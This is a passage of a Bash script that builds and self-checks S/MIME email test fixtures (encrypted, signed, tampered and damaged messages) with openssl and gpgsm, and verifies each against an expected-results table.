  "like 01, but the whole mail file has LF line ends (as saved by Unix tools), not CRLF"

# 34: the enveloped entity is a multipart/mixed with UTF-8 quoted-printable text and an attachment.
{
  printf 'Content-Type: multipart/mixed; boundary="=_inner_34"\r\n\r\n--=_inner_34\r\n'
  printf 'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n'
  printf 'Secret text 34: Gr=C3=BC=C3=9Fe aus K=C3=B6ln =E2=82=AC\r\n'
  printf '\r\n--=_inner_34\r\nContent-Type: application/octet-stream; name="report.bin"\r\n'
  printf 'Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="report.bin"\r\n\r\n'
  printf 'casecrypt attachment 34\n' | openssl base64 | crlf
  printf '\r\n--=_inner_34--\r\n'
} >"$T/34.txt"
encrypt "$T/34.txt" "$T/34.p7m" -aes-256-cbc -recip "$SUPPORT"
mail 34-utf8-and-attachment.eml 34 "$CUSTOMER" "$TO_SUPPORT" "Test 34: attachment" "$T/34.p7m"
ok 34-utf8-and-attachment.eml ok-aes256 "Secret text 34" AES-256-CBC no none - "Test 34: attachment" \
  "enveloped multipart/mixed: quoted-printable UTF-8 text (decoded: 'Secret text 34: Grüße aus Köln €') and attachment report.bin ('casecrypt attachment 34' + LF)"

# 35: opaque signed-data, not encrypted.
text_entity "$T/35.txt" "Secret text 35: opaque signed only"
sign "$T/35.txt" "$T/35.signed" "$ALICE_CRT" "$ALICE_KEY" -nodetach
mail 35-opaque-signed-only.eml 35 "$ALICE" "$TO_SUPPORT" "Test 35: opaque signed only" "$T/35.signed"
signed_only 35-opaque-signed-only.eml "Secret text 35: opaque signed only" yes valid alice@example.test \
  "Test 35: opaque signed only" "application/pkcs7-mime; smime-type=signed-data (opaque) by alice, not encrypted, valid"

# 37: signed by alice, the signed text changed, then encrypted.
printf 'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\nSecret text 37: modified then encrypted\r\n\r\nPlease pay 100 EUR.\r\n' >"$T/37.txt"
sign "$T/37.txt" "$T/37.signed" "$ALICE_CRT" "$ALICE_KEY"
sed -i 's/Please pay 100 EUR\./Please pay 900 EUR./' "$T/37.signed"
encrypt "$T/37.signed" "$T/37.p7m" -aes-256-cbc -recip "$SUPPORT"
mail 37-signed-modified-then-encrypted.eml 37 "$ALICE" "$TO_SUPPORT" "Test 37: bad signature inside" "$T/37.p7m"
ok 37-signed-modified-then-encrypted.eml ok-aes256 "Secret text 37: modified then encrypted" AES-256-CBC no invalid \
  alice@example.test "Test 37: bad signature inside" \
  "multipart/signed by alice, text changed (100 to 900 EUR) after signing, then encrypted: decrypts, signature invalid"

text_entity "$T/38.txt" "Secret text 38: no smime-type"
encrypt "$T/38.txt" "$T/38.p7m" -aes-256-cbc -recip "$SUPPORT"
sed -i 's#^Content-Type: application/pkcs7-mime; smime-type=enveloped-data; #Content-Type: application/pkcs7-mime; #' "$T/38.p7m"
mail 38-no-smime-type.eml 38 "$CUSTOMER" "$TO_SUPPORT" "Test 38: no smime-type" "$T/38.p7m"
ok 38-no-smime-type.eml ok-aes256 "Secret text 38: no smime-type" AES-256-CBC no none - "Test 38: no smime-type" \
  "application/pkcs7-mime; name=smime.p7m without the smime-type parameter: the CMS content type decides"
text_entity "$T/39.txt" "Secret text 39: folded header"
encrypt "$T/39.txt" "$T/39.p7m" -aes-256-cbc -recip "$SUPPORT"
{
  printf 'MIME-Version: 1.0\r\nContent-Type: Application/PKCS7-MIME;\r\n\tsmime-type="enveloped-data";\r\n\tname="smime.p7m"\r\n'
  printf 'Content-Transfer-Encoding: BASE64\r\nContent-Disposition: attachment;\r\n filename="smime.p7m"\r\n\r\n'
  entity_body "$T/39.p7m"
} >"$T/39.mime"
mail 39-folded-content-type.eml 39 "$CUSTOMER" "$TO_SUPPORT" "Test 39: folded Content-Type" "$T/39.mime"
ok 39-folded-content-type.eml ok-aes256 "Secret text 39: folded header" AES-256-CBC no none - "Test 39: folded Content-Type" \
  "Content-Type in mixed case, folded over three lines, quoted smime-type; Content-Transfer-Encoding: BASE64"

# ---------------------------------------------------------------------------------------------
# gpgsm (GnuPG 2.2): a second CMS implementation, BER with indefinite lengths.
# ---------------------------------------------------------------------------------------------
mkdir -p -- "$gnupg_home"
chmod 700 -- "$gnupg_home"
export GNUPGHOME=$gnupg_home
echo allow-loopback-pinentry >"$GNUPGHOME/gpg-agent.conf"
printf 'disable-crl-checks\ndisable-policy-checks\ndisable-dirmngr\n' >"$GNUPGHOME/gpgsm.conf"
ca_fpr=$(openssl x509 -in "$out/ca/ca.pem" -noout -fingerprint -sha1 | sed 's/.*=//')
echo "$ca_fpr S relax" >"$GNUPGHOME/trustlist.txt"
GPGSM=(gpgsm --batch --no-tty --pinentry-mode loopback)
gpg_pass='gpgsm import pass'
run "${GPGSM[@]}" --import "$out/ca/ca.pem" "$SUPPORT"
# gpgsm_pw ARGS...: gpgsm with the passphrase on stdin.
gpgsm_pw() {
  local log=$work/log.gpgsm
  if ! printf '%s' "$gpg_pass" | "${GPGSM[@]}" --passphrase-fd 0 "$@" >"$log" 2>&1; then
    cat "$log" >&2
    die "failed: gpgsm $*"
  fi
}
# gpgsm 2.2 imports only the old PBE-SHA1-3DES flavour of PKCS #12, and even of that it rejects
# some files openssl reads ("decryption failed; trying charset ...", "possibly bad passphrase"):
# which ones depends on the random salt (5 of 200 fresh files with gpgsm 2.2.40, each one failing
# again on every retry). So a new file is made, at most 20 times.
for ((try = 1; ; try++)); do
  run openssl pkcs12 -export -inkey "$ALICE_KEY" -in "$ALICE_CRT" -passout "pass:$gpg_pass" \
    -certpbe PBE-SHA1-3DES -keypbe PBE-SHA1-3DES -macalg sha1 -out "$work/alice-3des.p12"
  printf '%s' "$gpg_pass" | "${GPGSM[@]}" --passphrase-fd 0 --import "$work/alice-3des.p12" \
    >"$work/log.gpgsm" 2>&1 && break
  ((try < 20)) || { cat "$work/log.gpgsm" >&2; die "failed: gpgsm --import of 20 PKCS #12 files"; }
done
# p7m_mail_entity DER OUT: a MIME entity application/pkcs7-mime (enveloped-data) around DER.
p7m_mail_entity() {
  {
    printf 'MIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\r\n'
    printf 'Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="smime.p7m"\r\n\r\n'
    openssl base64 -in "$1" | crlf
  } >"$2"
}
text_entity "$T/24.txt" "Secret text 24: gpgsm"
run "${GPGSM[@]}" --encrypt -r support@example.test --output "$T/24.der" "$T/24.txt"
p7m_mail_entity "$T/24.der" "$T/24.p7m"
mail 24-gpgsm-encrypted.eml 24 "$CUSTOMER" "$TO_SUPPORT" "Test 24: gpgsm" "$T/24.p7m"
ok 24-gpgsm-encrypted.eml ok-aes256 "Secret text 24: gpgsm" AES-128-CBC no none - "Test 24: gpgsm" \
  "made by gpgsm 2.2 --encrypt (its default AES-128-CBC), BER with indefinite lengths, base64 in application/pkcs7-mime"

# 25: detached signature by gpgsm over the text entity, a hand-built multipart/signed, then gpgsm --encrypt.
text_entity "$T/25.txt" "Secret text 25: gpgsm signed then encrypted"
gpgsm_pw --detach-sign -u alice@example.test --output "$T/25.p7s" "$T/25.txt"
{
  printf 'MIME-Version: 1.0\r\nContent-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256;\r\n'
  printf '\tboundary="=_gpgsm_25"\r\n\r\nThis is an S/MIME signed message.\r\n\r\n--=_gpgsm_25\r\n'
  cat "$T/25.txt" # the signed bytes; the CRLF before the next boundary belongs to the boundary
  printf '\r\n--=_gpgsm_25\r\nContent-Type: application/pkcs7-signature; name="smime.p7s"\r\n'
  printf 'Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="smime.p7s"\r\n\r\n'
  openssl base64 -in "$T/25.p7s" | crlf
  printf '\r\n--=_gpgsm_25--\r\n'
} >"$T/25.signed"
run "${GPGSM[@]}" --encrypt -r support@example.test --output "$T/25.der" "$T/25.signed"
p7m_mail_entity "$T/25.der" "$T/25.p7m"
mail 25-gpgsm-signed-then-encrypted.eml 25 "$ALICE" "$TO_SUPPORT" "Test 25: gpgsm signed then encrypted" "$T/25.p7m"
ok 25-gpgsm-signed-then-encrypted.eml ok-aes256 "Secret text 25: gpgsm signed then encrypted" AES-128-CBC yes valid \
  alice@example.test "Test 25: gpgsm signed then encrypted" \
  "gpgsm 2.2: detached signature by alice (imported from a 3DES PKCS #12) in multipart/signed, then gpgsm --encrypt"

unset GNUPGHOME
stop_agent

# ---------------------------------------------------------------------------------------------
# Self-check: each mail is what its row says, as the openssl CLI sees it.
# ---------------------------------------------------------------------------------------------
fail() { die "self-check: $*"; }
C=$work/check
mkdir -p "$C"
# header FILE NAME: the unfolded value of the first header field NAME in FILE's top header block.
header() {
  awk -v want="$(tr '[:upper:]' '[:lower:]' <<<"$2")" '
    { sub(/\r$/, "") }
    /^$/ { exit }
    /^[ \t]/ { if (take) { s = $0; sub(/^[ \t]+/, "", s); val = val " " s }; next }
    { take = 0; i = index($0, ":")
      if (!seen && tolower(substr($0, 1, i - 1)) == want) {
        seen = 1; take = 1; val = substr($0, i + 1); sub(/^[ \t]+/, "", val) } }
    END { print val }' "$1"
}
address() { sed -E 's/.*<([^>]*)>.*/\1/' <<<"$1" | tr '[:upper:]' '[:lower:]'; }
# smime_der FILE OUT: decodes the base64 body of the first entity (the top one or a part of a
# multipart) whose header block names application/(x-)pkcs7-mime or *.p7m. Fails if none.
smime_der() {
  awk '
    BEGIN { hdr = 1 }
    { sub(/\r$/, "") }
    body { if ($0 == "" || /^--/) exit; print; next }
    hdr && $0 == "" { hdr = 0; if (want) body = 1; next }
    hdr { if (tolower($0) ~ /pkcs7-mime|\.p7m/) want = 1; next }
    /^--/ { hdr = 1; want = 0 }' "$1" >"$C/b64"
  [[ -s $C/b64 ]] && openssl base64 -d -in "$C/b64" -out "$2" && [[ -s $2 ]]
}
cms_type() { { openssl cms -cmsout -print -inform DER -in "$1" 2>/dev/null || true; } | sed -nE '2s/^ *contentType: ([^ ]+).*/\1/p'; }
declare -A sn=([aes-128-cbc]=AES-128-CBC [aes-256-cbc]=AES-256-CBC [aes-256-gcm]=id-aes256-GCM
  [des-ede3-cbc]=DES-EDE3-CBC [rc2-cbc]=RC2-CBC)
# id_files P12_NAME: $C/P12_NAME.crt and .key, taken from the p12 with its password file.
id_files() {
  [[ -f $C/$1.crt ]] && return
  if ! openssl pkcs12 -in "$S/$1.p12" -passin "file:$S/$1.pass" -nokeys -clcerts -out "$C/$1.crt" 2>/dev/null ||
    ! openssl pkcs12 -in "$S/$1.p12" -passin "file:$S/$1.pass" -nocerts -nodes -out "$C/$1.key" 2>/dev/null; then
    fail "cannot open server/$1.p12"
  fi
}
# verify_entity FILE FORM NEXT: verifies the signed entity FILE (FORM: SMIME for a MIME entity,
# DER for a bare signed-data), writes its content to NEXT and sets sig (valid, untrusted,
# invalid) and signer. The trust anchor is ca/ca.pem only.
verify_entity() {
  local -a in=(-in "$1" -inform "$2")
  rm -f -- "$C/signer.pem"
  if openssl cms -verify "${in[@]}" -CAfile "$out/ca/ca.pem" -no-CApath -no-CAstore -out /dev/null >/dev/null 2>&1; then
    sig=valid
  elif openssl cms -verify "${in[@]}" -noverify -out /dev/null >/dev/null 2>&1; then
    sig=untrusted
  else
    sig=invalid
  fi
  openssl cms -verify "${in[@]}" -noverify -nosigs -signer "$C/signer.pem" -out "$3" >/dev/null 2>&1 ||
    fail "$row_file: cannot read the signed content"
  signer=$(openssl x509 -noout -email -in "$C/signer.pem" | sed -n 1p)
}
# peel FILE P12_NAME: unwraps FILE layer by layer (enveloped: decrypt; signed: verify) like a
# mail client would. Sets depth, cipher (outermost), sig, signer, final (the innermost entity)
# and peel_error (openssl's message of a failed step, empty on success).
peel() {
  local cur=$1 next der type i ct
  depth=0 cipher=- sig=none signer=- final=$1 peel_error=
  for ((i = 0; i < 16; i++)); do
    next=$C/layer.$i
    der=$C/layer.$i.der
    ct=$(header "$cur" Content-Type | tr '[:upper:]' '[:lower:]')
    if [[ $ct == multipart/signed* ]]; then
      verify_entity "$cur" SMIME "$next"
    elif smime_der "$cur" "$der" 2>/dev/null; then
      type=$(cms_type "$der")
      case $type in
        pkcs7-envelopedData | id-smime-ct-authEnvelopedData)
          if ((depth == 0)); then
            cipher=$(openssl cms -cmsout -print -inform DER -in "$der" |
              sed -n '/contentEncryptionAlgorithm:/{n;s/^ *algorithm: \([^ ]*\).*/\1/p;q}')
            cipher=${sn[$cipher]:-unknown:$cipher}
          fi
          # -debug_decrypt: a failed key transport is an error, not openssl's MMA countermeasure
          # (a random content key that yields garbage with valid CBC padding 1 time in 256; see 20).
          if ! openssl cms -decrypt -debug_decrypt "${LEGACY[@]}" -binary -inform DER -in "$der" \
            -recip "$C/$2.crt" -inkey "$C/$2.key" -out "$next" 2>"$C/err"; then
            peel_error=$(tr '\n' ' ' <"$C/err")
            return
          fi
          depth=$((depth + 1)) ;;
        pkcs7-signedData) verify_entity "$der" DER "$next" ;;
        *)
          peel_error="not CMS (${type:-unparsable})"
          return ;;
      esac
    else
      break
    fi
    cur=$next
  done
  final=$cur
}

checked=0
while IFS=$'\t' read -r -u 3 row_file p12 pf expect text error want_cipher integrity signature want_signer subject _; do
  checked=$((checked + 1))
  f=$out/$row_file
  [[ -s $f ]] || fail "$row_file missing"
  for h in From To Subject Date Message-ID; do
    [[ -n $(header "$f" "$h") ]] || fail "$row_file has no $h header"
  done
  if [[ $row_file == *lf-line-ends* ]]; then
    ! grep -q $'\r' "$f" || fail "$row_file has CR characters"
  else
    ! grep -qv $'\r$' "$f" || fail "$row_file has a line without CRLF"
  fi
  p12_name=-
  if [[ $p12 != - ]]; then
    p12_name=$(basename "$p12" .p12)
    [[ -f $out/$p12 && -f $out/$pf ]] || fail "$row_file: $p12 or $pf missing"
    id_files "$p12_name"
  fi
  peel "$f" "$p12_name"
  case $expect in
    decrypt | verify)
      [[ -z $peel_error ]] || fail "$row_file: $peel_error"
      if [[ $expect == decrypt ]]; then
        ((depth >= 1)) || fail "$row_file: not encrypted"
      else
        ((depth == 0)) || fail "$row_file: encrypted"
      fi
      grep -qF -- "$text" "$final" || fail "$row_file: '$text' not in the innermost content"
      [[ $cipher == "$want_cipher" ]] || fail "$row_file: cipher $cipher, the table says $want_cipher"
      got_sig=$sig
      from=$(address "$(header "$f" From)")
      [[ $sig == valid && $signer != "$from" ]] && got_sig=mismatch
      [[ $got_sig == "$signature" ]] || fail "$row_file: signature $got_sig, the table says $signature"
      [[ $signer == "$want_signer" ]] || fail "$row_file: signer $signer, the table says $want_signer"
      got_integrity=no
      [[ $cipher == id-aes256-GCM || $got_sig == valid || $got_sig == mismatch ]] && got_integrity=yes
      [[ $got_integrity == "$integrity" ]] || fail "$row_file: integrity $got_integrity, the table says $integrity"
      got_subject=$(header "$f" Subject)
      inner_subject=$(header "$final" Subject)
      [[ -n $inner_subject ]] && got_subject=$inner_subject
      [[ $got_subject == "$subject" ]] || fail "$row_file: subject '$got_subject', the table says '$subject'"
      if [[ $row_file == *nested-depth-2* ]]; then
        ((depth == 2)) || fail "$row_file: depth $depth"
      else
        ((depth <= 1)) || fail "$row_file: depth $depth"
      fi ;;
    reject)
      case $error in
        "not an S/MIME")
          ! grep -qi -e pkcs7 -e p7m -e multipart/signed "$f" || fail "$row_file looks like S/MIME"
          ! openssl cms -decrypt -in "$f" -recip "$C/$p12_name.crt" -inkey "$C/$p12_name.key" >/dev/null 2>&1 ||
            fail "$row_file decrypts" ;;
        "no key" | damaged)
          [[ -n $peel_error ]] || fail "$row_file decrypts"
          # Whether the outer envelope names our certificate (issuer and serial number; all
          # certificates here come from one CA) decides between the two. openssl itself says
          # nothing more than "Error decrypting CMS using private key" when no RecipientInfo
          # matches a key transport certificate.
          serial=$(openssl x509 -noout -serial -in "$C/$p12_name.crt" | sed 's/.*=//')
          names_us=no
          if smime_der "$f" "$C/outer.der" 2>/dev/null &&
            openssl cms -cmsout -print -inform DER -in "$C/outer.der" >"$C/outer.txt" 2>/dev/null; then
            grep -qE "^ +serialNumber: $((16#$serial))\$|d\.subjectKeyIdentifier:" "$C/outer.txt" && names_us=yes
          else
            names_us=unparsable
          fi
          if [[ $error == "no key" ]]; then
            [[ $names_us == no ]] || fail "$row_file: the envelope names our certificate ($names_us)"
          else
            [[ $names_us != no ]] || fail "$row_file: the envelope does not name our certificate"
          fi ;;
        nesting)
          [[ -z $peel_error ]] || fail "$row_file: $peel_error"
          ((depth == 10)) || fail "$row_file: depth $depth, expected 10"
          grep -qF "Secret text 23: nested 10 levels" "$final" || fail "$row_file: innermost text missing" ;;
        *) fail "$row_file: unknown error '$error'" ;;
      esac ;;
    *) fail "$row_file: unknown expect '$expect'" ;;
  esac
done 3< <(tail -n +2 "$tsv")
[[ $checked -eq $(($(wc -l <"$tsv") - 1)) ]] || fail "checked $checked rows only"

# Properties the generic loop cannot see.
cms_print() { smime_der "$M/$1" "$C/p.der" || fail "$1: no S/MIME part"; openssl cms -cmsout -print -inform DER -in "$C/p.der"; }
has() { grep -qF -- "$2" <<<"$3" || fail "$1: expected '$2'"; }
has 03 'smime-type=authEnveloped-data' "$(header "$M/03-aes256-gcm.eml" Content-Type)"
has 21 'smime-type=authEnveloped-data' "$(header "$M/21-gcm-tag-mismatch.eml" Content-Type)"
t=$(cms_print 04-rsa-oaep-sha256.eml); has 04 'rsaesOaep' "$t"; has 04 ':sha256' "$t"
t=$(cms_print 05-ec-p256.eml); has 05 'd.kari:' "$t"; has 05 'dhSinglePass-stdDH-sha1kdf-scheme' "$t"
t=$(cms_print 06-three-recipients.eml)
[[ $(grep -cE '^ +d\.(ktri|kari):' <<<"$t") -eq 3 ]] || fail "06: not three RecipientInfos"
t=$(cms_print 32-ec-sha256-kdf.eml); has 32 'dhSinglePass-stdDH-sha256kdf-scheme' "$t"
t=$(cms_print 31-recipient-by-ski.eml); has 31 'd.subjectKeyIdentifier:' "$t"
t=$(cms_print 36-password-recipient-only.eml); has 36 'd.pwri:' "$t"
! grep -qE 'd\.(ktri|kari|kekri):' <<<"$t" || fail "36: has a certificate recipient"
t=$(cms_print 18-other-recipient-only.eml)
bob_serial=$(openssl x509 -noout -serial -in "$ID/bob.crt" | sed 's/.*=//')
has 18 "serialNumber: $((16#$bob_serial))" "$t"
smime_der "$M/12-rc2.eml" "$C/12.der"
! openssl cms -decrypt -inform DER -in "$C/12.der" -recip "$C/ok-aes256.crt" -inkey "$C/ok-aes256.key" >/dev/null 2>&1 ||
  fail "12: decrypts without the legacy provider"
has 13 'application/x-pkcs7-mime' "$(header "$M/13-x-pkcs7-mime.eml" Content-Type)"
has 14 'application/octet-stream; name="smime.p7m"' "$(header "$M/14-octet-stream-p7m.eml" Content-Type)"
has 38 'application/pkcs7-mime; name="smime.p7m"' "$(header "$M/38-no-smime-type.eml" Content-Type)"
[[ $(grep -c '^--=_casecrypt_17' "$M/17-efail-mixed.eml") -eq 4 ]] || fail "17: not three parts"
for n in 24-gpgsm-encrypted 25-gpgsm-signed-then-encrypted; do
  smime_der "$M/$n.eml" "$C/g.der"
  [[ $(openssl asn1parse -inform DER -in "$C/g.der" | sed -n 1p) == *l=inf* ]] || fail "$n: not BER indefinite length"
done
# 08 and 35: the signed entity is opaque signed-data, not multipart/signed.
has 35 'smime-type=signed-data' "$(header "$M/35-opaque-signed-only.eml" Content-Type)"
peel "$M/08-opaque-signed-then-encrypted.eml" ok-aes256
has 08 'smime-type=signed-data' "$(header "$C/layer.0" Content-Type)"
# 19-21, 28: the undamaged counterparts decrypt (so the damage is what makes them fail).
[[ $(entity_body "$T/19.p7m" | wc -l) -gt $(entity_body "$T/19.cut" | wc -l) ]] || fail "19: not shorter"
for n in 19 20 21 28; do
  if ! openssl cms -decrypt -in "$T/$n.p7m" -recip "$C/ok-aes256.crt" -inkey "$C/ok-aes256.key" -out "$C/undamaged" 2>/dev/null ||
    ! grep -qF "Secret text $n" "$C/undamaged"; then
    fail "$n: the undamaged original does not decrypt"
  fi
done
smime_der "$M/20-corrupt-base64.eml" "$C/20.der" || fail "20: no S/MIME part"
openssl asn1parse -inform DER -in "$C/20.der" >/dev/null 2>&1 ||
  fail "20: the corrupt DER no longer parses (it should be corrupt, not truncated)"
# ... and the changed bytes are all inside the RSA encryptedKey (an OCTET STRING of 256 bytes).
p7m_der "$T/20.p7m" "$C/20.orig.der"
read -r ek_off ek_hl < <(openssl asn1parse -inform DER -in "$C/20.orig.der" |
  sed -nE 's/^ *([0-9]+):d=5 +hl= *([0-9]+) +l= *256 +prim: +OCTET STRING.*/\1 \2/p') || fail "20: no encryptedKey"
changed=$(cmp -l "$C/20.orig.der" "$C/20.der" | awk '{ print $1 - 1 }' || true)
[[ -n $changed ]] || fail "20: nothing changed"
for o in $changed; do
  ((o >= ek_off + ek_hl && o < ek_off + ek_hl + 256)) || fail "20: byte $o changed, outside the encryptedKey"
done
# No stray files: every file in smime/ is in the table.
expected=$(tail -n +2 "$tsv" | cut -f1 | sort -u)
actual=$(cd "$out" && find smime -type f | sort)
[[ $expected == "$actual" ]] || fail "files in smime/ and rows differ: $(diff <(echo "$expected") <(echo "$actual") | tr '\n' ' ')"

# Rows in file order (sort -s keeps the two rows of 06 in their order).
{ sed -n 1p "$tsv"; tail -n +2 "$tsv" | sort -s -t $'\t' -k1,1; } >"$M/cases.tsv"
rows=$((checked))
echo "make-smime-fixtures: $rows cases ($(grep -c $'\tdecrypt\t' "$M/cases.tsv") decrypt, $(grep -c $'\tverify\t' "$M/cases.tsv") verify, $(grep -c $'\treject\t' "$M/cases.tsv") reject) checked with openssl in $M/cases.tsv"
